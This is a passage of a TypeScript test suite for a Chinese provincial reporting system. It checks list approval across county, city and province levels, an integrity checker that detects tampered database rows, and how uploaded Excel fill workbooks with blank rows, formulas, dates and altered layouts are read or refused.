    expect((await rolled(R, "shanxi", "approved", sheng)).total).toBe(0);
    await levelAct("approve", sheng);
    await bothEqual();
    const accepted = await rolled(R, "shanxi", "approved", sheng);
    expect(accepted.total).toBe(10);
    expect(new Set(accepted.rows.map((r) => r.unitId))).toEqual(new Set(["zezhou", "gaoping"]));
    // the county may no longer change what the province accepted
    const late = await put(R, "zezhou", mkRows(1, 500));
    expect(late.status).toBe(409);
    // a county of the province's round reads neither the province's nor its city's list
    const county = await login("zezhou");
    for (const q of ["?unit=shanxi", "?unit=jincheng"]) expect([403, 404]).toContain((await api(`/rounds/${R}/lists/producers${q}`, { token: county })).status);
  });
});

// ---------------------------------------------------------------------------------------------------
describe("issue 25 review: the integrity check covers the lists", () => {
  it("HELD: after every scenario above it finds nothing, and it finds a tampered and an added current list row", async () => {
    const clean = await checkIntegrity(env.DB, "/", new Date());
    expect(clean.problems.map((p) => p.message.en)).toEqual([]);
    const R = "r25a2600";
    const victim = (await env.DB.prepare("SELECT tbl, pos, value FROM current_list_rows WHERE round_id = ? AND unit_id = 'zezhou' ORDER BY pos LIMIT 1").bind(R).first<{ tbl: string; pos: number; value: string }>())!;
    const tampered = JSON.stringify({ ...JSON.parse(victim.value), output: "999.00" });
    await env.DB.prepare("UPDATE current_list_rows SET value = ? WHERE round_id = ? AND unit_id = 'zezhou' AND tbl = ? AND pos = ?").bind(tampered, R, victim.tbl, victim.pos).run();
    try {
      const found = await checkIntegrity(env.DB, "/", new Date());
      const said = found.problems.filter((p) => p.roundId === R && p.unitId === "zezhou").map((p) => p.message.en).join("\n");
      expect(said).toMatch(/list 'producers' row 1/);
      expect(said).toMatch(/producers_output/);
    } finally {
      await env.DB.prepare("UPDATE current_list_rows SET value = ? WHERE round_id = ? AND unit_id = 'zezhou' AND tbl = ? AND pos = ?").bind(victim.value, R, victim.tbl, victim.pos).run();
    }
    await env.DB.prepare("INSERT INTO current_list_rows (round_id, unit_id, tbl, pos, value) VALUES (?, 'zezhou', 'producers', 99, ?)").bind(R, victim.value).run();
    try {
      const found = await checkIntegrity(env.DB, "/", new Date());
      expect(found.problems.filter((p) => p.roundId === R && p.unitId === "zezhou").length).toBeGreaterThan(0);
    } finally {
      await env.DB.prepare("DELETE FROM current_list_rows WHERE round_id = ? AND unit_id = 'zezhou' AND pos = 99").bind(R).run();
    }
    expect((await checkIntegrity(env.DB, "/", new Date())).problems).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------------
describe("issue 25 review: the fill workbook filled as Excel would", () => {
  const R = "r25u2603";
  let compiled: CompiledTemplate;
  let geo: { firstRow: number; lastRow: number; colOf: ReadonlyMap<string, number> };
  beforeAll(async () => {
    const tpl = brandsCopy("r25_small", (d) => ({ ...d, maxRows: 10 }));
    const v = await publish(tpl);
    const c = compileTemplate(tpl);
    if (!c.ok) throw new Error("compile");
    compiled = c.compiled;
    const page = layoutBook(compiled).pages.find((p) => p.kind === "detail")!;
    geo = (page as Body).geometry;
    await openRound(R, "r25_small", v, "2603", ["zezhou", "gaoping", "yangcheng", "qinshui", "chengqu", "lingchuan"]);
  }, 120_000);

  async function download(unit: string): Promise<ExcelJS.Workbook> {
    const res = await api(`/rounds/${R}/submissions/${unit}/template.xlsx`, { token: await login(unit) });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    return wb;
  }
  const listSheet = (wb: ExcelJS.Workbook) => pagesOf(wb).find((p) => p.page === "producers")!.ws;
  /** Writes a list row (0-based index into the list's room; may pass its end) as typed values. */
  function typeRow(ws: ExcelJS.Worksheet, index: number, values: Row): void {
    for (const [code, v] of Object.entries(values)) ws.getCell(geo.firstRow + index + 1, geo.colOf.get(code)! + 1).value = v as ExcelJS.CellValue;
  }
  const asTyped = (r: Row): Row => ({ ...r, level: r.level === "sx" ? "山西名牌" : "中国名牌", output: Number(r.output), tax: Number(r.tax) });
  async function upload(unit: string, wb: ExcelJS.Workbook, ifMatch?: string): Promise<{ status: number; body: Body }> {
    const r = await api(`/rounds/${R}/submissions/${unit}/upload?acknowledgeWarnings=1`, { method: "POST", token: await login(unit), body: (await wb.xlsx.writeBuffer()) as ArrayBuffer, headers: { "content-type": XLSX, ...(ifMatch ? { "if-match": ifMatch } : {}) } });
    return { status: r.status, body: await r.json() };
  }
  const fillMain = (wb: ExcelJS.Workbook, rows: Row[]) => fillBook(wb, figuresOf(rows));

  it("HELD: rows typed with a blank row between, 序号 formulas deleted, numbers pasted as text, names by option name: read, the blank row said where", async () => {
    const wb = await download("zezhou");
    const ws = listSheet(wb);
    const rows = mkRows(3, 800);
    typeRow(ws, 0, asTyped(rows[0]!));
    typeRow(ws, 2, { ...asTyped(rows[1]!), output: "1.00", year: "２０２０", uscc: String(rows[1]!.uscc).toLowerCase() });
    typeRow(ws, 3, { ...asTyped(rows[2]!), firm: `  ${rows[2]!.firm}  ` });
    for (let i = 0; i < 10; i++) ws.getCell(geo.firstRow + i + 1, 1).value = null;
    fillMain(wb, rows);
    const up = await upload("zezhou", wb);
    expect(up.status, JSON.stringify(up.body).slice(0, 600)).toBe(201);
    const notice = up.body.warnings.find((w: Body) => w.code === "blank_rows");
    expect(notice.message.zh).toContain(`第 ${geo.firstRow + 2} 行`);
    const stored = (await current(R, "zezhou"))!.lists.producers as Row[];
    expect(stored.map((r) => r.product)).toEqual(rows.map((r) => r.product));
    expect(stored[1]!.uscc).toBe(rows[1]!.uscc);
    expect(stored[2]!.firm).toBe(rows[2]!.firm);
  });

  it("HELD: a bad credit code below a blank row is named on the cell it is on", async () => {
    const wb = await download("gaoping");
    const ws = listSheet(wb);
    const rows = mkRows(2, 810);
    typeRow(ws, 0, asTyped(rows[0]!));
    typeRow(ws, 4, { ...asTyped(rows[1]!), uscc: "91140525MA0XXXXX1" });
    fillMain(wb, rows);
    const up = await upload("gaoping", wb);
    expect(up.status).toBe(422);
    const issue = up.body.error.issues.find((i: Body) => i.list?.field === "uscc");
    const col = String.fromCharCode(65 + geo.colOf.get("uscc")!);
    expect(issue.cell).toBe(`${col}${geo.firstRow + 5}`);
    expect(issue.message.zh).toContain(`${col}${geo.firstRow + 5}`);
  });

  it("HELD: a row typed past the list's room, a formula and an error value in a list cell are each refused on their cell", async () => {
    const rows = mkRows(11, 820);
    let wb = await download("yangcheng");
    rows.forEach((r, i) => typeRow(listSheet(wb), i, asTyped(r)));
    fillMain(wb, rows.slice(0, 10));
    let up = await upload("yangcheng", wb);
    expect(up.status).toBe(422);
    expect(up.body.error.message.zh).toContain(`第 ${geo.lastRow + 2} 行`);
    wb = await download("yangcheng");
    typeRow(listSheet(wb), 0, { ...asTyped(rows[0]!), output: { formula: "1+0.5", result: 1.5 } });
    fillMain(wb, rows.slice(0, 1));
    up = await upload("yangcheng", wb);
    expect(up.status).toBe(422);
    expect(up.body.error.message.zh).toContain("公式");
    wb = await download("yangcheng");
    typeRow(listSheet(wb), 0, { ...asTyped(rows[0]!), tax: { error: "#N/A" } });
    fillMain(wb, rows.slice(0, 1));
    up = await upload("yangcheng", wb);
    expect(up.status).toBe(422);
    expect(up.body.error.message.zh).toContain("#N/A");
  });

  it("FINDING: rows pasted far below the list's room (past the 100 rows the reader looks at) are not dropped without a word", async () => {
    const wb = await download("qinshui");
    const ws = listSheet(wb);
    const rows = mkRows(3, 830);
    typeRow(ws, 0, asTyped(rows[0]!));
    typeRow(ws, 1, asTyped(rows[1]!));
    // the third pasted 150 rows below the room's last row
    typeRow(ws, (geo.lastRow - geo.firstRow) + 150, asTyped(rows[2]!));
    fillMain(wb, rows.slice(0, 2));
    const up = await upload("qinshui", wb);
    const said = JSON.stringify(up.body);
    // refused, or at least said: a row the reader skipped must be named
    expect(up.status === 422 || /第 \d+ 行.*(未读取|跳过|超出)|skipped|not read/.test(said), said.slice(0, 400)).toBe(true);
  });

  it("HELD: the list sheet renamed is found; a second copy of it, a column inserted, rows inserted above are refused by name", async () => {
    const rows = mkRows(1, 840);
    let wb = await download("chengqu");
    listSheet(wb).name = "名单（已核）";
    typeRow(listSheet(wb), 0, asTyped(rows[0]!));
    fillMain(wb, rows);
    let up = await upload("chengqu", wb);
    expect(up.status, JSON.stringify(up.body).slice(0, 400)).toBe(201);
    // a second copy of the list sheet in the workbook
    wb = await download("lingchuan");
    const src = listSheet(wb);
    const copy = wb.addWorksheet("名单备份");
    src.eachRow({ includeEmpty: false }, (r, n) => r.eachCell({ includeEmpty: false }, (c, col) => { copy.getCell(n, col).value = c.value; }));
    typeRow(src, 0, asTyped(rows[0]!));
    fillMain(wb, rows);
    up = await upload("lingchuan", wb);
    expect(up.status).toBe(422);
    expect(up.body.error.message.zh).toMatch(/名单备份|两|重复|twice/);
    // a column inserted before the fields
    wb = await download("lingchuan");
    listSheet(wb).spliceColumns(2, 0, []);
    up = await upload("lingchuan", wb);
    expect(up.status).toBe(422);
    expect(up.body.error.code).toBe("layout_mismatch");
    // rows inserted above the header
    wb = await download("lingchuan");
    listSheet(wb).spliceRows(3, 0, [], []);
    up = await upload("lingchuan", wb);
    expect(up.status).toBe(422);
    expect(up.body.error.code).toBe("layout_mismatch");
    expect((await current(R, "lingchuan"))?.revision ?? 0).toBe(0);
  });
});

// ---------------------------------------------------------------------------------------------------
describe("issue 25 review: the largest list a template may ask for goes back up", () => {
  // fixed: a template's lists hold at most 60,000 cells together (DETAIL_CELLS_LIMIT), what a fill workbook can go
  // back up with — 30 fields × 5,000 rows is refused when the template is made, naming the limit; the largest
  // list of 30 fields it allows (2,000 rows) goes back up
  it("FINDING: a list of 30 fields and 5,000 rows (both within the designer's limits): its downloaded fill workbook, one row filled, uploads without being refused as too large", async () => {
    const fields = Array.from({ length: 30 }, (_, i) => ({ code: `f${i + 1}`, name: t(`字段${i + 1}`, `Field ${i + 1}`), type: "text" as const, required: i === 0, maxLength: 20, decimals: 0 }));
    const tooWide = TemplateSchema.parse({ ...brandsCopy("r25_wide", (d) => ({ ...d, code: "wide", fields, key: [], maxRows: 5000 })), rules: [] });
    const refused = compileTemplate(tooWide);
    expect(refused.ok).toBe(false);
    expect(JSON.stringify(refused)).toContain("超过一份报表清单的上限 60,000 格");
    const tpl = TemplateSchema.parse({ ...brandsCopy("r25_wide", (d) => ({ ...d, code: "wide", fields, key: [], maxRows: 2000 })), rules: [] });
    const v = await publish(tpl);
    await openRound("r25w2604", "r25_wide", v, "2604", ["zezhou"]);
    const token = await login("zezhou");
    const res = await api("/rounds/r25w2604/submissions/zezhou/template.xlsx", { token });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = pagesOf(wb).find((p) => p.page === "wide")!.ws;
    const page = (layoutBook((compileTemplate(tpl) as Body).compiled).pages.find((p) => p.kind === "detail") as Body).geometry;
    ws.getCell(page.firstRow + 1, 2).value = "一行";
    fillBook(wb, { sx_products: 0, brand_output: 0, brand_tax: 0, brand_exports: 0 });
    const up = await api("/rounds/r25w2604/submissions/zezhou/upload?acknowledgeWarnings=1", { method: "POST", token, body: (await wb.xlsx.writeBuffer()) as ArrayBuffer, headers: { "content-type": XLSX } });
    const text = await up.text();
    expect(up.status, text.slice(0, 300)).toBe(201);
  }, 600_000);
});

// ---------------------------------------------------------------------------------------------------
describe("issue 25 review: dates typed, pasted and formatted in the fill workbook", () => {
  const R = "r25d2606";
  let geo: { firstRow: number; colOf: ReadonlyMap<string, number> };
  beforeAll(async () => {
    const tpl = brandsCopy("r25_dates", (d) => ({ ...d, maxRows: 10, fields: [...d.fields, { code: "awarded", name: t("获评日期", "Awarded on"), type: "date", required: false, maxLength: 200, decimals: 0 }] }));
    const v = await publish(tpl);
    geo = (layoutBook((compileTemplate(tpl) as Body).compiled).pages.find((p) => p.kind === "detail") as Body).geometry;
    await openRound(R, "r25_dates", v, "2606", ["zezhou", "gaoping", "yangcheng"]);
  }, 120_000);

  async function fillAndUpload(unit: string, dates: ExcelJS.CellValue[], format?: string): Promise<{ status: number; body: Body; rows: Row[] }> {
    const token = await login(unit);
    const res = await api(`/rounds/${R}/submissions/${unit}/template.xlsx`, { token });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = pagesOf(wb).find((p) => p.page === "producers")!.ws;
    const rows = mkRows(dates.length, 950);
    rows.forEach((r, i) => {
      for (const [code, v] of Object.entries({ ...r, level: r.level === "sx" ? "山西名牌" : "中国名牌", output: 1, tax: 0.1, awarded: dates[i] })) {
        const cell = ws.getCell(geo.firstRow + i + 1, geo.colOf.get(code)! + 1);
        cell.value = v as ExcelJS.CellValue;
        if (code === "awarded" && format && dates[i] instanceof Date) cell.numFmt = format;
      }
    });
    fillBook(wb, figuresOf(rows));
    const up = await api(`/rounds/${R}/submissions/${unit}/upload?acknowledgeWarnings=1`, { method: "POST", token, body: (await wb.xlsx.writeBuffer()) as ArrayBuffer, headers: { "content-type": XLSX } });
    return { status: up.status, body: await up.json(), rows };
  }

  it("HELD: a real date cell (as Excel makes it), 2024年3月5日 typed as text and a pasted day number are read as the dates shown; an impossible date is refused on its cell", async () => {
    const ok = await fillAndUpload("zezhou", [new Date(Date.UTC(2024, 2, 5)), "2024年3月6日", 45358, "2024/3/8"], "yyyy-mm-dd");
    expect(ok.status, JSON.stringify(ok.body).slice(0, 400)).toBe(201);
    expect(((await current(R, "zezhou"))!.lists.producers as Row[]).map((r) => r.awarded)).toEqual(["2024-03-05", "2024-03-06", "2024-03-07", "2024-03-08"]);
    const bad = await fillAndUpload("gaoping", ["2024-02-30"]);
    expect(bad.status).toBe(422);
    const col = String.fromCharCode(65 + geo.colOf.get("awarded")!);
    expect(bad.body.error.issues[0].cell).toBe(`${col}${geo.firstRow + 1}`);
  });

  it("FINDING: a year pasted from another workbook into 获评日期 (the number 2024) is refused on its cell, not stored as 1905-07-16", async () => {
    const up = await fillAndUpload("yangcheng", [2024]);
    const stored = ((await current(R, "yangcheng"))?.lists?.producers ?? []) as Row[];
    expect(stored.map((r) => r.awarded)).not.toContain("1905-07-16");
    expect(up.status).toBe(422);
  });
});

// ---------------------------------------------------------------------------------------------------
describe("issue 25 review: 第 N 行 in a message is the row whose 序号 Excel shows N", () => {
  it("FINDING: a row holding only a full-width space (an official's way to 'clear' a cell) is skipped by the reader but numbered by the sheet's 序号, so later messages name the wrong 第 N 行", async () => {
    const R = "r25n2607";
    const tpl = brandsCopy("r25_num", (d) => ({ ...d, maxRows: 10 }));
    const v = await publish(tpl);
    const geo = (layoutBook((compileTemplate(tpl) as Body).compiled).pages.find((p) => p.kind === "detail") as Body).geometry;
    await openRound(R, "r25_num", v, "2607", ["zezhou"]);
    const token = await login("zezhou");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await (await api(`/rounds/${R}/submissions/zezhou/template.xlsx`, { token })).arrayBuffer());
    const ws = pagesOf(wb).find((p) => p.page === "producers")!.ws;
    const rows = mkRows(2, 970);
    const type = (i: number, r: Row) => { for (const [code, val] of Object.entries(r)) ws.getCell(geo.firstRow + i + 1, geo.colOf.get(code)! + 1).value = val as ExcelJS.CellValue; };
    type(0, { ...rows[0]!, level: "山西名牌", output: 1, tax: 0.1 });
    // the second sheet row: only a full-width space in 企业名称 (Excel's TRIM keeps U+3000, so its 序号 formula counts the row: 2)
    ws.getCell(geo.firstRow + 2, geo.colOf.get("firm")! + 1).value = "\u3000";
    // the third sheet row (序号 3 in Excel): a bad output
    type(2, { ...rows[1]!, level: "山西名牌", output: "约10亿", tax: 0.1 });
    fillBook(wb, figuresOf(rows));
    const up = await api(`/rounds/${R}/submissions/zezhou/upload?acknowledgeWarnings=1`, { method: "POST", token, body: (await wb.xlsx.writeBuffer()) as ArrayBuffer, headers: { "content-type": XLSX } });
    expect(up.status).toBe(422);
    const issue = (await up.json() as Body).error.issues.find((i: Body) => i.list?.field === "output");
    const col = String.fromCharCode(65 + geo.colOf.get("output")!);
    expect(issue.cell).toBe(`${col}${geo.firstRow + 3}`);
    // Excel shows 序号 3 on that row: the message must say 第 3 行 (or the reader must take the row as Excel does)
    expect(issue.message.zh).toContain("第 3 行");
  });
});
